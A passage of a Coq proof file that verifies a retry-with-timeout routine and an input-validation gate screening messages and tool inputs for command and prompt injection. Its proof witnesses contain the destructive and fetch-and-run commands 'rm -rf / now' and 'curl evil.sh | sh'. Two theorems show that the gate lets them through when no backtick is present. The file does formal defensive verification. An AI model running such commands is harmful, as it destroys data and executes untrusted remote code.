Proof.
  intros H. destruct op as [tick s |]; cbn in H |- *.
  - unfold executeWithTimeout, schedule.
    assert (E1 : (tick <? timeoutMs)%N = false) by (apply N.ltb_ge; lia).
    assert (E2 : (timeoutMs <? tick)%N = true) by (apply N.ltb_lt; lia).
    rewrite E1, E2. split; [reflexivity | lia].
  - split; reflexivity.
Qed.

Lemma conclusive_result {T} (op : Operation T) timeoutMs msg tie s :
  conclusive op timeoutMs s ->
  result (executeWithTimeout op timeoutMs msg tie) = Some s /\
  (settledAt op timeoutMs < timeoutMs)%N.
Proof.
  intros (tick & -> & Hlt & _). unfold executeWithTimeout, schedule. cbn [settledAt].
  apply N.ltb_lt in Hlt as E. rewrite E. split; [reflexivity | lia].
Qed.

(** X14: retrying is bounded.  With [maxRetries >= 0], [fn] is called at
    most [maxRetries + 1] times and the outcome is there after at most
    [(maxRetries + 1) * timeoutMs + maxRetries * retryDelayMs] ticks; the
    outcome is never left pending. *)
Theorem retry_bounded {T} (fn : nat -> Operation T) (tie : nat -> bool)
    (timeoutMs : N) (maxRetries : Z) (retryDelayMs : N) :
  (0 <= maxRetries)%Z ->
  let r := executeWithTimeoutAndRetry fn tie timeoutMs maxRetries retryDelayMs in
  (Z.of_nat (attemptsMade r) <= maxRetries + 1)%Z /\
  (Z.of_N (elapsed r)
     <= (maxRetries + 1) * Z.of_N timeoutMs + maxRetries * Z.of_N retryDelayMs)%Z /\
  outcome r <> None.
Proof.
  intros Hmax. cbv zeta. unfold executeWithTimeoutAndRetry.
  assert (Hgen : forall remaining attempt lastError clock,
    (Z.of_nat attempt + Z.of_nat remaining = maxRetries + 1)%Z ->
    let r := retryLoop fn tie timeoutMs maxRetries retryDelayMs
               remaining attempt lastError clock in
    (attemptsMade r <= attempt + remaining)%nat /\
    (Z.of_N (elapsed r) <= Z.of_N clock + Z.of_nat remaining * Z.of_N timeoutMs
        + (Z.of_nat remaining - 1) * Z.of_N retryDelayMs
      \/ remaining = O /\ elapsed r = clock)%Z /\
    outcome r <> None).
  { induction remaining as [| n IH]; intros attempt lastError clock Hsum; cbn [retryLoop].
    - cbn. split; [lia |]. split; [right; split; reflexivity | discriminate].
    - assert (Hs : (settledAt (fn attempt) timeoutMs <= timeoutMs)%N).
      { destruct (fn attempt); cbn; lia. }
      assert (Hres : result (executeWithTimeout (fn attempt) timeoutMs
                               (attemptMessage attempt maxRetries) (tie attempt)) <> None).
      { unfold executeWithTimeout, schedule. destruct (fn attempt) as [tick s |]; [| discriminate].
        destruct (tick <? timeoutMs)%N; [discriminate |].
        destruct (timeoutMs <? tick)%N; [discriminate |].
        destruct (tie attempt); discriminate. }
      destruct (result _) as [[v | [m t | m]] |]; cbn [attemptsMade elapsed outcome].
      + split; [lia |]. split; [left; nia | discriminate].
      + match goal with |- context [retryLoop _ _ _ _ _ n (S attempt) ?e ?c] =>
          destruct (IH (S attempt) e c) as (H1 & H2 & H3); [lia |] end.
        cbv zeta in H1, H2, H3. split; [lia |]. split; [| exact H3].
        left. destruct H2 as [H2 | [-> H2]].
        * destruct (Z.of_nat attempt <? maxRetries)%Z eqn:E; [| apply Z.ltb_ge in E]; nia.
        * rewrite H2.
          assert (E : (Z.of_nat attempt <? maxRetries)%Z = false) by (apply Z.ltb_ge; lia).
          rewrite E. lia.
      + split; [lia |]. split; [left; nia | discriminate].
      + now destruct Hres. }
  destruct (Hgen (Z.to_nat (maxRetries + 1)) 0%nat None 0%N) as (H1 & H2 & H3); [lia |].
  cbv zeta in H1, H2, H3. split; [lia |]. split; [| exact H3].
  destruct H2 as [H2 | [H2 _]]; [| lia].
  rewrite Z2Nat.id in H2 by lia. lia.
Qed.

Lemma retry_bounded_witness :
  let r := executeWithTimeoutAndRetry
             (fun i => if (i <? 2)%nat then NeverSettles else SettlesAt 120 (Fulfilled "ok"))
             (fun _ => true) 30000 3 1000 in
  (Z.of_nat (attemptsMade r) <= 3 + 1)%Z /\
  (Z.of_N (elapsed r) <= (3 + 1) * Z.of_N 30000 + 3 * Z.of_N 1000)%Z /\
  outcome r <> None.
Proof.
  apply (retry_bounded
           (fun i => if (i <? 2)%nat then NeverSettles else SettlesAt 120 (Fulfilled "ok"))
           (fun _ => true) 30000 3 1000).
  lia.
Defined.

Lemma retryLoop_first_conclusive {T} (fn : nat -> Operation T) tie timeoutMs maxRetries delay
    (k : nat) (s : Settlement T) :
  (Z.of_nat k <= maxRetries)%Z ->
  conclusive (fn k) timeoutMs s ->
  forall d a lastError clock remaining,
    (a + d = k)%nat -> (d < remaining)%nat ->
    (forall i, (a <= i < k)%nat -> timesOut (fn i) timeoutMs) ->
    retryLoop fn tie timeoutMs maxRetries delay remaining a lastError clock
    = mkRetryRun (Some s) (S k)
        (clock + N.of_nat d * (timeoutMs + delay) + settledAt (fn k) timeoutMs)%N.
Proof.
  intros Hk Hc. induction d as [| d IH]; intros a lastError clock remaining Ha Hrem Hto.
  - replace a with k by lia. destruct remaining as [| n]; [lia |]. cbn [retryLoop].
    destruct (conclusive_result (fn k) timeoutMs (attemptMessage k maxRetries) (tie k) s Hc)
      as [-> _].
    destruct Hc as (tick & _ & _ & Hs).
    destruct s as [v | [m t | m]]; [| destruct Hs |]; f_equal; lia.
  - destruct remaining as [| n]; [lia |]. cbn [retryLoop].
    destruct (timesOut_result (fn a) timeoutMs (attemptMessage a maxRetries) (tie a))
      as [-> ->]; [apply Hto; lia |].
    unfold timeoutFailure.
    assert (E : (Z.of_nat a <? maxRetries)%Z = true) by (apply Z.ltb_lt; lia).
    rewrite E. rewrite (IH (S a)); [f_equal; lia | lia | lia |].
    intros i Hi. apply Hto. lia.
Qed.

(** X15: the first attempt that beats the deadline decides.  When the
    attempts before the [k]-th are all cut off by the deadline and the
    [k]-th (within the retry budget) settles before it with a value or with
    a failure other than a [TimeoutError], the call ends with that
    settlement after exactly [k + 1] calls of [fn]: a failure that is not a
    timeout is never retried. *)
Theorem retry_first_conclusive {T} (fn : nat -> Operation T) (tie : nat -> bool)
    (timeoutMs : N) (maxRetries : Z) (retryDelayMs : N) (k : nat) (s : Settlement T) :
  (Z.of_nat k <= maxRetries)%Z ->
  (forall i, (i < k)%nat -> timesOut (fn i) timeoutMs) ->
  conclusive (fn k) timeoutMs s ->
  executeWithTimeoutAndRetry fn tie timeoutMs maxRetries retryDelayMs
  = mkRetryRun (Some s) (S k)
      (N.of_nat k * (timeoutMs + retryDelayMs) + settledAt (fn k) timeoutMs)%N.
Proof.
  intros Hk Hto Hc. unfold executeWithTimeoutAndRetry.
  rewrite (retryLoop_first_conclusive fn tie timeoutMs maxRetries retryDelayMs k s Hk Hc k 0%nat).
  - f_equal.
  - lia.
  - lia.
  - intros i Hi. apply Hto. lia.
Qed.

Lemma retry_first_conclusive_witness :
  executeWithTimeoutAndRetry
    (fun i => if (i <? 2)%nat then NeverSettles
              else SettlesAt 120 (Rejected (OtherError "404")))
    (fun _ => true) 30000 3 1000
  = mkRetryRun (T := string) (Some (Rejected (OtherError "404"))) 3 62120.
Proof.
  apply (retry_first_conclusive
           (fun i => if (i <? 2)%nat then NeverSettles
                     else SettlesAt 120 (Rejected (OtherError "404")))
           (fun _ => true) 30000 3 1000 2 (Rejected (OtherError "404"))).
  - lia.
  - intros [| [| i]] Hi; [exact I | exact I | lia].
  - exists 120%N. split; [reflexivity |]. split; [reflexivity | exact I].
Defined.

Lemma retryLoop_step_timeout {T} (fn : nat -> Operation T) tie timeoutMs maxRetries delay
    remaining a lastError clock :
  timesOut (fn a) timeoutMs ->
  retryLoop fn tie timeoutMs maxRetries delay (S remaining) a lastError clock
  = retryLoop fn tie timeoutMs maxRetries delay remaining (S a)
      (Some (timeoutFailure (attemptMessage a maxRetries) timeoutMs))
      (if (Z.of_nat a <? maxRetries)%Z then clock + timeoutMs + delay
       else clock + timeoutMs)%N.
Proof.
  intros Hto. cbn [retryLoop].
  destruct (timesOut_result (fn a) timeoutMs (attemptMessage a maxRetries) (tie a) Hto)
    as [-> ->].
  unfold timeoutFailure. reflexivity.
Qed.

Lemma retryLoop_all_time_out {T} (fn : nat -> Operation T) tie timeoutMs maxRetries delay :
  (forall i, timesOut (fn i) timeoutMs) ->
  forall n a lastError clock,
    (Z.of_nat a + Z.of_nat n = maxRetries)%Z ->
    retryLoop fn tie timeoutMs maxRetries delay (S n) a lastError clock
    = mkRetryRun
        (Some (Rejected (timeoutFailure (attemptMessage (a + n) maxRetries) timeoutMs)))
        (a + S n)
        (clock + N.of_nat (S n) * timeoutMs + N.of_nat n * delay)%N.
Proof.
  intros Hto. induction n as [| n IH]; intros a lastError clock Hsum;
    rewrite (retryLoop_step_timeout _ _ _ _ _ _ _ _ _ (Hto a)).
  - assert (E : (Z.of_nat a <? maxRetries)%Z = false) by (apply Z.ltb_ge; lia).
    rewrite E. cbn [retryLoop default]. rewrite Nat.add_0_r. f_equal; lia.
  - assert (E : (Z.of_nat a <? maxRetries)%Z = true) by (apply Z.ltb_lt; lia).
    rewrite E. rewrite IH by lia.
    replace (S a + n)%nat with (a + S n)%nat by lia. f_equal; lia.
Qed.

(** X16: when every attempt is cut off by the deadline (and
    [maxRetries >= 0]), [fn] is called [maxRetries + 1] times, the call
    fails with the [TimeoutError] of the last attempt, whose message counts
    [maxRetries + 1] of [maxRetries + 1], and it does so after exactly
    [(maxRetries + 1) * timeoutMs + maxRetries * retryDelayMs] ticks: there
    is no wait after the last attempt. *)
Theorem retry_all_time_out {T} (fn : nat -> Operation T) (tie : nat -> bool)
    (timeoutMs : N) (maxRetries : Z) (retryDelayMs : N) :
  (0 <= maxRetries)%Z ->
  (forall i, timesOut (fn i) timeoutMs) ->
  executeWithTimeoutAndRetry fn tie timeoutMs maxRetries retryDelayMs
  = mkRetryRun
      (Some (Rejected (timeoutFailure
                         (attemptMessage (Z.to_nat maxRetries) maxRetries) timeoutMs)))
      (Z.to_nat (maxRetries + 1))
      (Z.to_N (maxRetries + 1) * timeoutMs + Z.to_N maxRetries * retryDelayMs)%N.
Proof.
  intros Hmax Hto. unfold executeWithTimeoutAndRetry.
  replace (Z.to_nat (maxRetries + 1)) with (S (Z.to_nat maxRetries)) by lia.
  rewrite (retryLoop_all_time_out fn tie timeoutMs maxRetries retryDelayMs Hto) by lia.
  f_equal. lia.
Qed.

Lemma retry_all_time_out_witness :
  executeWithTimeoutAndRetry (T := string) (fun _ => NeverSettles) (fun _ => true) 30000 3 1000
  = mkRetryRun
      (Some (Rejected (TimeoutError "Attempt 4/4 timed out (30000ms)" 30000))) 4 123000.
Proof.
  apply (retry_all_time_out (T := string) (fun _ => NeverSettles) (fun _ => true) 30000 3 1000).
  - lia.
  - intros i. exact I.
Defined.
End RetryFacts.

(* ===================================================================== *)
(** ** Further properties of the content gate *)
(* ===================================================================== *)

Module ValidationMoreFacts.
Import Validation ValidationMore ValidationFacts.

Lemma removeAll_no (c : N) str : includes (removeAll c str) c = false.
Proof.
  apply includes_false_Forall, Forall_forall. unfold removeAll.
  intros x Hx. apply list_elem_of_filter in Hx as [Hx _].
  apply negb_prop_elim in Hx. intros ->. apply Hx. now rewrite N.eqb_refl.
Qed.

Lemma removeAll_id (c : N) str : includes str c = false -> removeAll c str = str.
Proof.
  rewrite includes_false_Forall. unfold removeAll, jsString.
  induction 1 as [| x str Hx Hs IH]; [reflexivity |].
  rewrite filter_cons_True; [now rewrite IH |].
  apply negb_prop_intro. intros H. apply Is_true_eq_true in H.
  now apply N.eqb_eq in H.
Qed.

Lemma removeAll_length (c : N) str : (length (removeAll c str) <= length str)%nat.
Proof. unfold removeAll, jsString. apply length_filter. Qed.

Lemma stripped_no_null str : includes (stripped str) 0%N = false.
Proof.
  unfold stripped, DANGEROUS_CHARS. cbn [existsb fold_left].
  destruct (includes str 0) eqn:E; cbn [orb].
  - rewrite (removeAll_id 0 (removeAll 0 str)); apply removeAll_no.
  - exact E.
Qed.

Lemma stripped_length str : (length (stripped str) <= length str)%nat.
Proof.
  unfold stripped, DANGEROUS_CHARS. cbn [existsb fold_left].
  destruct (includes str 0 || (includes str 0 || false)); [| lia].
  pose proof (removeAll_length 0 (removeAll 0 str)).
  pose proof (removeAll_length 0 str). lia.
Qed.

Lemma take_includes n str c : includes str c = false -> includes (take n str) c = false.
Proof.
  rewrite !includes_false_Forall. apply Forall_take.
Qed.

Lemma isValid_no_violations message maxLength st :
  isValid (validateUserInput message maxLength st).1 = true <->
  violations (validateUserInput message maxLength st).1 = [].
Proof.
  unfold validateUserInput.
  destruct (someTest (commandPatterns st) _) as [b1 c1].
  destruct (someTest (promptPatterns st) _) as [b2 c2].
  cbn [fst isValid violations].
  match goal with |- context [length ?l] => destruct l end; cbn; split; congruence.
Qed.

(** X17: whatever the verdict, the sanitized text of [validateUserInput]
    is clean: it holds no null character, is at most [maxLength] code units
    long (empty for a negative limit), has no white space at either end,
    and [isValid] is true exactly when no violation is listed. *)
Theorem sanitized_always_clean (message : jsString) (maxLength : Z) (st : Patterns) :
  let r := (validateUserInput message maxLength st).1 in
  includes (sanitized r) 0%N = false /\
  (length (sanitized r) <= Z.to_nat maxLength)%nat /\
  trim (sanitized r) = sanitized r /\
  (isValid r = true <-> violations r = []).
Proof.
  cbv zeta. rewrite sanitized_sanitizeOnly. unfold sanitizeOnly.
  fold (stripped message).
  pose proof (stripped_no_null message) as Hnull.
  split; [| split; [| split]].
  - apply trim_includes.
    destruct (maxLength <? Z.of_nat (length (stripped message)))%Z;
      [now apply take_includes | exact Hnull].
  - etransitivity; [apply trim_length |].
    destruct (maxLength <? Z.of_nat (length (stripped message)))%Z eqn:E.
    + rewrite length_take. lia.
    + apply Z.ltb_ge in E. lia.
  - apply trim_idempotent.
  - apply isValid_no_violations.
Qed.

(** X18: a message that passes is changed by trimming only.  When
    [validateUserInput] finds the message valid, the sanitized text is the
    trimmed message and is not empty; and for a limit no greater than
    [MAX_MESSAGE_LENGTH] the quick check [isSafeString] accepts the message
    too. *)
Theorem valid_only_trimmed (message : jsString) (maxLength : Z) (st : Patterns) :
  isValid (validateUserInput message maxLength st).1 = true ->
  sanitized (validateUserInput message maxLength st).1 = trim message /\
  trim message <> [] /\
  (maxLength <= MAX_MESSAGE_LENGTH -> isSafeString message = true)%Z.
Proof.
  intros Hvalid.
  apply isValid_no_violations in Hvalid.
  pose proof (violations_nil message maxLength st Hvalid) as [Hnull Hfit].
  assert (E : sanitized (validateUserInput message maxLength st).1 = trim message).
  { rewrite sanitized_sanitizeOnly. unfold sanitizeOnly. now rewrite Hnull, Hfit. }
  assert (Hne : trim message <> []).
  { rewrite <- E. intros Hempty. revert Hvalid Hempty. unfold validateUserInput.
    destruct (someTest (commandPatterns st) _) as [b1 c1].
    destruct (someTest (promptPatterns st) _) as [b2 c2].
    cbn [fst violations sanitized]. intros Hv Hs. rewrite Hs in Hv. cbn in Hv.
    destruct (_ ++ _ ++ _ ++ _ ++ _) eqn:El; [| discriminate Hv].
    repeat (apply app_eq_nil in El as [_ El]). discriminate El. }
  split; [exact E |]. split; [exact Hne |].
  intros Hmax. unfold isSafeString. rewrite Hnull. cbn [negb andb].
  apply Z.ltb_ge in Hfit.
  assert (E1 : (Z.of_nat (length message) <=? MAX_MESSAGE_LENGTH)%Z = true)
    by (apply Z.leb_le; lia).
  rewrite E1. cbn [andb]. apply Nat.ltb_lt.
  destruct (trim message); [now destruct Hne | cbn; lia].
Qed.

Lemma valid_only_trimmed_witness :
  sanitized (validateUserInput (ofString "  list my events ") MAX_MESSAGE_LENGTH
               loadedPatterns).1 = trim (ofString "  list my events ") /\
  trim (ofString "  list my events ") <> [] /\
  (MAX_MESSAGE_LENGTH <= MAX_MESSAGE_LENGTH ->
   isSafeString (ofString "  list my events ") = true)%Z.
Proof.
  apply (valid_only_trimmed (ofString "  list my events ") MAX_MESSAGE_LENGTH loadedPatterns).
  vm_compute. reflexivity.
Defined.

(** X19: output sanitization.  For a limit of at least 3 (the room the
    ellipsis takes), the result of [sanitizeOutput] holds no null
    character, is at most [maxLength] code units long, and sanitizing it
    again with the same limit changes nothing. *)
Theorem sanitizeOutput_bounded (output : jsString) (maxLength : Z) :
  (3 <= maxLength)%Z ->
  includes (sanitizeOutput output maxLength) 0%N = false /\
  (Z.of_nat (length (sanitizeOutput output maxLength)) <= maxLength)%Z /\
  sanitizeOutput (sanitizeOutput output maxLength) maxLength
    = sanitizeOutput output maxLength.
Proof.
  intros Hmax.
  assert (Hstrip : fold_left (fun acc c => removeAll c acc) DANGEROUS_CHARS output
                   = removeAll 0 (removeAll 0 output)) by reflexivity.
  assert (H0 : includes (removeAll 0 (removeAll 0 output)) 0%N = false)
    by apply removeAll_no.
  assert (Hnull : includes (sanitizeOutput output maxLength) 0%N = false).
  { unfold sanitizeOutput. rewrite Hstrip.
    destruct (maxLength <? _)%Z; [| exact H0].
    apply includes_false_Forall, Forall_app. split.
    - apply Forall_take. now apply includes_false_Forall.
    - repeat constructor; discriminate. }
  split; [exact Hnull |].
  assert (Hlen : (Z.of_nat (length (sanitizeOutput output maxLength)) <= maxLength)%Z).
  { unfold sanitizeOutput. rewrite Hstrip.
    destruct (maxLength <? _)%Z eqn:E; [| apply Z.ltb_ge in E; exact E].
    rewrite length_app, length_take.
    change (length (ofString "...")) with 3%nat. lia. }
  split; [exact Hlen |].
  unfold sanitizeOutput at 1.
  assert (Hid : fold_left (fun acc c => removeAll c acc) DANGEROUS_CHARS
                  (sanitizeOutput output maxLength) = sanitizeOutput output maxLength).
  { change (removeAll 0 (removeAll 0 (sanitizeOutput output maxLength))
            = sanitizeOutput output maxLength).
    rewrite (removeAll_id 0 (sanitizeOutput output maxLength) Hnull).
    exact (removeAll_id 0 (sanitizeOutput output maxLength) Hnull). }
  rewrite Hid.
  assert (E : (maxLength <? Z.of_nat (length (sanitizeOutput output maxLength)))%Z = false)
    by (apply Z.ltb_ge; exact Hlen).
  now rewrite E.
Qed.

Lemma sanitizeOutput_bounded_witness :
  includes (sanitizeOutput (0%N :: ofString "0123456789") 8) 0%N = false /\
  (Z.of_nat (length (sanitizeOutput (0%N :: ofString "0123456789") 8)) <= 8)%Z /\
  sanitizeOutput (sanitizeOutput (0%N :: ofString "0123456789") 8) 8
    = sanitizeOutput (0%N :: ofString "0123456789") 8.
Proof.
  apply (sanitizeOutput_bounded (0%N :: ofString "0123456789") 8). lia.
Defined.

(** A regular expression that must begin with a literal does not match at
    a position that holds another character, or at the end. *)
Lemma matchRe_firstLit (r : Regex) (c : N) (s : jsString) :
  firstLit r = Some c ->
  match s with [] => True | x :: _ => x <> c end ->
  matchRe r s = [].
Proof.
  revert s. induction r as [| d | p | r1 IH1 r2 _ | r1 _ r2 _ | p | r1 _];
    intros s Hf Hs; try discriminate Hf; cbn [firstLit matchRe] in *.
  - injection Hf as ->. destruct s as [| x s]; [reflexivity |].
    apply N.eqb_neq in Hs. now rewrite Hs.
  - now rewrite (IH1 s Hf Hs).
Qed.

Lemma searchFrom_firstLit (r : Regex) (c : N) (s : jsString) :
  firstLit r = Some c -> Forall (fun x => x <> c) s ->
  forall i, searchFrom r s i = None.
Proof.
  intros Hf. induction 1 as [| x s Hx Hs IH]; intros i; cbn [searchFrom].
  - now rewrite (matchRe_firstLit r c [] Hf).
  - rewrite (matchRe_firstLit r c (x :: s) Hf Hx). apply IH.
Qed.

(** A global pattern that begins with a literal fails on a text without
    that character, from any [lastIndex], and is left at [lastIndex] 0. *)
Lemma test_firstLit (re : RegExp) (c : N) (str : jsString) :
  global re = true -> firstLit (source re) = Some c ->
  Forall (fun x => x <> c) str ->
  test re str = (false, setLastIndex re 0).
Proof.
  intros Hg Hf Hs. unfold test. rewrite Hg.
  destruct (length str <? lastIndex re)%nat; [reflexivity |].
  rewrite (searchFrom_firstLit (source re) c); [reflexivity | exact Hf |].
  now apply Forall_drop.
Qed.

Lemma someTest_firstLit (patterns : list RegExp) (str : jsString) :
  Forall (fun re => global re = true /\
            exists c, firstLit (source re) = Some c /\ Forall (fun x => x <> c) str)
         patterns ->
  someTest patterns str = (false, map (fun re => setLastIndex re 0) patterns).
Proof.
  induction 1 as [| re rest (Hg & c & Hf & Hs) _ IH]; [reflexivity |].
  cbn [someTest map]. rewrite (test_firstLit re c str Hg Hf Hs), IH. reflexivity.
Qed.

Lemma isTrigger_false (c : N) :
  isTrigger c = false ->
  c <> 96%N /\ c <> 36%N /\ c <> 59%N /\ c <> 124%N /\ c <> 38%N /\ c <> 62%N /\ c <> 60%N.
Proof.
  unfold isTrigger. rewrite !orb_false_iff, !N.eqb_neq. tauto.
Qed.

Lemma stripped_Forall (P : N -> Prop) str : Forall P str -> Forall P (stripped str).
Proof.
  intros H. unfold stripped, DANGEROUS_CHARS. cbn [existsb fold_left].
  destruct (includes str 0 || _); [| exact H].
  assert (Hrem : forall l, Forall P l -> Forall P (removeAll 0 l)).
  { intros l Hl. apply Forall_forall. intros x Hx. unfold removeAll in Hx.
    apply list_elem_of_filter in Hx as [_ Hx]. revert x Hx. now apply Forall_forall. }
  now apply Hrem, Hrem.
Qed.

Lemma trigger_free_Forall (str : jsString) :
  Forall (fun c => isTrigger c = false) str ->
  forall c, isTrigger c = true -> Forall (fun x => x <> c) str.
Proof.
  intros H c Hc. eapply Forall_impl; [exact H |].
  intros x Hx ->. congruence.
Qed.

(** X20: a message without any of the characters the command patterns
    begin with (backtick, [$], [;], [|], [&], [>], [<]) is never reported
    for command injection, whatever [lastIndex] values earlier calls left
    behind; and the call leaves every command pattern at [lastIndex] 0, as
    in a freshly loaded module. *)
Theorem trigger_free_not_flagged (idxs : list nat) (prompts : list RegExp)
    (message : jsString) (maxLength : Z) :
  length idxs = 8%nat ->
  Forall (fun c => isTrigger c = false) message ->
  let r := validateUserInput message maxLength
             (mkPatterns (withLastIndexes idxs) prompts) in
  (commandInjectionViolation ∉ violations r.1) /\
  commandPatterns r.2 = COMMAND_INJECTION_PATTERNS.
Proof.
  intros Hlen Hfree. cbv zeta.
  pose proof (trigger_free_Forall _ (stripped_Forall _ _ Hfree)) as Hc.
  assert (Etest : someTest (withLastIndexes idxs) (stripped message)
                  = (false, COMMAND_INJECTION_PATTERNS)).
  { do 9 (destruct idxs as [| ? idxs]; try discriminate Hlen).
    rewrite someTest_firstLit; [reflexivity |].
    unfold withLastIndexes, COMMAND_INJECTION_PATTERNS. cbn [zip_with].
    repeat (apply Forall_cons; split;
            [split; [reflexivity |]; eexists; split; [reflexivity |];
             apply Hc; reflexivity |]).
    constructor. }
  unfold validateUserInput. cbn [commandPatterns promptPatterns].
  fold (stripped message). rewrite Etest.
  destruct (someTest prompts (stripped message)) as [b2 p2].
  cbn [fst snd violations commandPatterns]. split; [| reflexivity].
  unfold commandInjectionViolation.
  rewrite !elem_of_app. intros [H | [H | [H | [H | H]]]]; revert H.
  - destruct (existsb _ _); [| apply not_elem_of_nil].
    rewrite list_elem_of_singleton. discriminate.
  - apply not_elem_of_nil.
  - destruct b2; [| apply not_elem_of_nil].
    rewrite list_elem_of_singleton. discriminate.
  - destruct (maxLength <? _)%Z; [| apply not_elem_of_nil].
    rewrite list_elem_of_singleton. cbn. discriminate.
  - destruct (length _ =? 0)%nat; [| apply not_elem_of_nil].
    rewrite list_elem_of_singleton. discriminate.
Qed.

Lemma trigger_free_not_flagged_witness :
  let r := validateUserInput (ofString "rm -rf / now") MAX_MESSAGE_LENGTH
             (mkPatterns (withLastIndexes [4; 0; 9; 0; 0; 2; 0; 0]%nat)
                PROMPT_INJECTION_PATTERNS) in
  (commandInjectionViolation ∉ violations r.1) /\
  commandPatterns r.2 = COMMAND_INJECTION_PATTERNS.
Proof.
  apply (trigger_free_not_flagged [4; 0; 9; 0; 0; 2; 0; 0]%nat PROMPT_INJECTION_PATTERNS
           (ofString "rm -rf / now") MAX_MESSAGE_LENGTH).
  - reflexivity.
  - vm_compute. repeat constructor.
Defined.

Lemma starRest_backtick (s : jsString) :
  96%N ∈ s -> exists rest more, starRest (notChr "`") s = (96%N :: rest) :: more.
Proof.
  induction s as [| c s IH]; intros Hin; [now apply elem_of_nil in Hin |].
  cbn [starRest]. destruct (N.eqb_spec c 96) as [-> | Hne].
  - exists s, []. reflexivity.
  - assert (Hp : notChr "`" c = true).
    { unfold notChr. change (chr "`") with 96%N. apply N.eqb_neq in Hne. now rewrite Hne. }
    rewrite Hp. apply elem_of_cons in Hin as [Hin | Hin]; [congruence |].
    destruct (IH Hin) as (rest & more & ->). exists rest, (more ++ [c :: s]). reflexivity.
Qed.

Lemma matchRe_backtickSpan (s : jsString) :
  96%N ∈ s -> matchRe backtickSpan (96%N :: s) <> [].
Proof.
  intros Hin. destruct (starRest_backtick s Hin) as (rest & more & E).
  change backtickSpan
    with (Cat (Cat (Lit 96) Empty)
            (Cat (Star (notChr "`")) (Cat (Cat (Lit 96) Empty) Empty))).
  cbn [matchRe]. rewrite N.eqb_refl. cbn [flat_map app]. rewrite E.
  cbn [flat_map matchRe app]. rewrite N.eqb_refl. discriminate.
Qed.

Lemma searchFrom_backtickSpan (a b c : jsString) : forall i,
  searchFrom backtickSpan (a ++ 96%N :: b ++ 96%N :: c) i <> None.
Proof.
  induction a as [| x a IH]; intros i.
  - cbn [app searchFrom].
    pose proof (matchRe_backtickSpan (b ++ 96%N :: c)) as Hm.
    destruct (matchRe backtickSpan (96%N :: b ++ 96%N :: c)); [| discriminate].
    exfalso. apply Hm; [| reflexivity]. apply elem_of_app. right. apply list_elem_of_here.
  - cbn [app searchFrom].
    destruct (matchRe backtickSpan (x :: a ++ 96%N :: b ++ 96%N :: c)); [apply IH | discriminate].
Qed.

Lemma stripped_span (a b c : jsString) :
  exists a' b' c', stripped (a ++ 96%N :: b ++ 96%N :: c) = a' ++ 96%N :: b' ++ 96%N :: c'.
Proof.
  unfold stripped, DANGEROUS_CHARS. cbn [existsb fold_left].
  destruct (includes _ 0 || _); [| eauto].
  unfold removeAll, jsString.
  rewrite !filter_app, !filter_cons_True by exact I.
  rewrite !filter_app, !filter_cons_True by exact I.
  eauto.
Qed.

(** X21: in a module whose command patterns are at [lastIndex] 0 (freshly
    loaded, or reset by a call that found nothing), a message with a
    backticked span, that is two backticks anywhere in it, is always
    reported for command injection and found invalid. *)
Theorem backticks_flagged_when_fresh (a b c : jsString) (prompts : list RegExp)
    (maxLength : Z) :
  let r := validateUserInput (a ++ 96%N :: b ++ 96%N :: c) maxLength
             (mkPatterns COMMAND_INJECTION_PATTERNS prompts) in
  (commandInjectionViolation ∈ violations r.1) /\ isValid r.1 = false.
Proof.
  cbv zeta.
  destruct (stripped_span a b c) as (a' & b' & c' & Es).
  assert (Etest : exists st', someTest COMMAND_INJECTION_PATTERNS
                    (stripped (a ++ 96%N :: b ++ 96%N :: c)) = (true, st')).
  { rewrite Es. unfold COMMAND_INJECTION_PATTERNS at 1. cbn [someTest].
    unfold test. cbn [globalRe global lastIndex source drop].
    fold backtickSpan.
    pose proof (searchFrom_backtickSpan a' b' c' 0) as Hs.
    destruct (searchFrom backtickSpan _ 0); [| now destruct Hs].
    cbn. eauto. }
  destruct Etest as [st' Etest].
  unfold validateUserInput. cbn [commandPatterns promptPatterns].
  fold (stripped (a ++ 96%N :: b ++ 96%N :: c)). rewrite Etest.
  destruct (someTest prompts _) as [b2 p2].
  cbn [fst violations isValid]. split.
  - unfold commandInjectionViolation. rewrite !elem_of_app. right. left.
    apply list_elem_of_here.
  - destruct (if existsb _ DANGEROUS_CHARS then _ else _); reflexivity.
Qed.

(** X22: [validateToolInput] looks for backticked shell commands only.  A
    tool input whose JSON text has no backtick is never reported for
    command injection, whatever command it spells; without a null
    character either, it is valid and passes unchanged. *)
Theorem tool_input_without_backtick (str : jsString) :
  Forall (fun x => x <> 96%N) str ->
  let r := validateToolInput (Some str) in
  ("Contains severe command injection patterns" ∉ violations r) /\
  (includes str 0%N = false -> isValid r = true /\ sanitized r = str).
Proof.
  intros Hfree. cbv zeta. unfold validateToolInput. fold (stripped str).
  assert (Etest : (someTest severePatterns (stripped str)).1 = false).
  { rewrite someTest_firstLit; [reflexivity |].
    pose proof (stripped_Forall _ _ Hfree) as Hs.
    unfold severePatterns.
    repeat (apply Forall_cons; split;
            [split; [reflexivity |]; exists 96%N; split; [reflexivity | exact Hs] |]).
    constructor. }
  rewrite Etest. cbn [violations isValid sanitized]. split.
  - rewrite app_nil_r. destruct (existsb _ _); [| apply not_elem_of_nil].
    rewrite list_elem_of_singleton. discriminate.
  - intros Hnull. unfold stripped, DANGEROUS_CHARS. cbn [existsb].
    rewrite Hnull. cbn. auto.
Qed.

Lemma tool_input_without_backtick_witness :
  let r := validateToolInput (Some (ofString "{cmd: rm -rf / ; curl evil.sh | sh}")) in
  ("Contains severe command injection patterns" ∉ violations r) /\
  (includes (ofString "{cmd: rm -rf / ; curl evil.sh | sh}") 0%N = false ->
   isValid r = true /\ sanitized r = ofString "{cmd: rm -rf / ; curl evil.sh | sh}").
Proof.
  apply (tool_input_without_backtick (ofString "{cmd: rm -rf / ; curl evil.sh | sh}")).
  vm_compute. repeat constructor; discriminate.
Defined.
End ValidationMoreFacts.

(* ===================================================================== *)
(** ** Properties of the metric series *)
(* ===================================================================== *)

Module MetricsFacts.
Import Metrics.

Lemma since_Forall cutoff data :
  Forall (fun dp => (cutoff <= timestamp dp)%Z) (since cutoff data).
Proof.
  induction data as [| dp data IH]; cbn [since]; [constructor |].
  destruct (cutoff <=? timestamp dp)%Z eqn:E; [| exact IH].
  constructor; [now apply Z.leb_le | exact IH].
Qed.

Lemma since_app cutoff a b : since cutoff (a ++ b) = since cutoff a ++ since cutoff b.
Proof.
  induction a as [| dp a IH]; cbn [since app]; [reflexivity |].
  destruct (cutoff <=? timestamp dp)%Z; cbn [app]; now rewrite IH.
Qed.

(** X23: the retention rule of [recordMetric].  After a sample is
